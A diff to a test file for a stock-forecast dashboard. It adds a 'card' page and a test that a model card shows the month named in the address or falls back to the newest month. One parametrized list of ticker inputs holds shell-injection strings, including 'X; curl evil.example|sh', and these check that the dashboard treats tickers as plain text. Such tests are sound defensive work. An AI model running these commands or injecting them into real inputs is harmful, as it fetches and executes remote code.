@@ -25,7 +25,7 @@ from stockcast_assets.settings import Settings
 from stockcast_assets.tables import INDICATORS, TRAINED_MODEL
 from stockcast_assets_tests.dashboard.home import REASON, model_row, write
 
-PAGES = ("forecasts", "trust", "monitoring", "universe", "risk")
+PAGES = ("forecasts", "trust", "card", "monitoring", "universe", "risk")
 
 
 def open_page(view: str, **query: str) -> AppTest:
@@ -66,7 +66,7 @@ def test_an_empty_home_says_what_to_do(empty_home, view):
     assert "stockcast demo" in text(app)
 
 
-@pytest.mark.parametrize("view", ["forecasts", "trust", "monitoring"])
+@pytest.mark.parametrize("view", ["forecasts", "trust", "card", "monitoring"])
 def test_a_ticker_without_data_says_so_instead_of_showing_another(home, view):
     app = open_page(view, ticker="NOPE")
     assert app.selectbox(key="ticker").value == "NOPE"
@@ -74,7 +74,7 @@ def test_a_ticker_without_data_says_so_instead_of_showing_another(home, view):
     assert "stockcast forecast NOPE" in text(app)
 
 
-@pytest.mark.parametrize("view", ["forecasts", "trust", "monitoring"])
+@pytest.mark.parametrize("view", ["forecasts", "trust", "card", "monitoring"])
 @pytest.mark.parametrize(
     "ticker", ["$(touch x)", "X; curl evil.example|sh", "--debug", "`id`", "X\nstockcast demo", "<b>X"]
 )
@@ -290,6 +290,16 @@ def test_trust_shows_no_proof_where_nothing_was_trained(empty_home):
     assert "Nothing was trained" in shown
     assert "nan" not in shown.lower()
     assert not app.get("plotly_chart")
+
+
+def test_a_card_is_of_the_month_that_the_address_names_or_of_the_newest(home):
+    shown = open_page("card", ticker="AAPL", month="2013-01").markdown[0].value
+    assert shown.startswith("# Model card: AAPL, January 2013\n")
+    assert REASON in shown
+    newest = open_page("card", ticker="AAPL", month="1999-01")
+    assert newest.markdown[0].value.startswith("# Model card: AAPL, March 2013\n")
+    assert "There is no model of AAPL for 1999-01: this is 2013-03." in text(newest)
+    assert newest.selectbox[1].options == ["2013-03", "2013-02", "2013-01"]
 
 
 def test_monitoring_tells_the_kinds_of_drift_apart(home):
